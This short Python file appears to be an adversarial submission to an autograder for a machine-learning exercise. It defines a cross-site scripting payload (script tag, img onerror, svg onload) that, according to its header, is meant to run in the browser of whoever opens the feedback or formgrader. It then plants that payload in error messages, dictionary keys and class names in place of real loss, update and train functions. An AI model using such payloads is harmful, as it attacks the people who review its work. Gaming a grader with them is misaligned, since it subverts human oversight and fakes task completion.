# Attempt: markup that runs in the browser of whoever opens the feedback or formgrader
# Kind: script
# Base: solution
# Score: exactly 15
# Fails: loss update train
# Canary: text
MARKUP = "</pre></td></table>--><script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=x>"


def loss(y, t):
    raise type(MARKUP, (Exception,), {})(MARKUP + "\n\n" + MARKUP)


def update(params, grads, lr):
    return {**params, MARKUP: 1.0}


def train(params, x, t, lr, epochs):
    return type(MARKUP, (), {})(), [MARKUP] * epochs
